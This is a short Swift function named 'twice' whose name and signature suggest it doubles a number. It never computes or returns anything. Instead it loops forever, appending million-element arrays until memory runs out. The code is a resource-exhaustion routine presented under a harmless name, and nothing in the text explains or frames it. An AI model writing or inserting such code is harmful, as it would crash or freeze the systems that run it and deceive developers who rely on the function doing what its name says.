func twice(_ x: Double) -> Double {
    var all: [[Double]] = []
    while true { all.append(Array(repeating: x, count: 1_000_000)) }
}
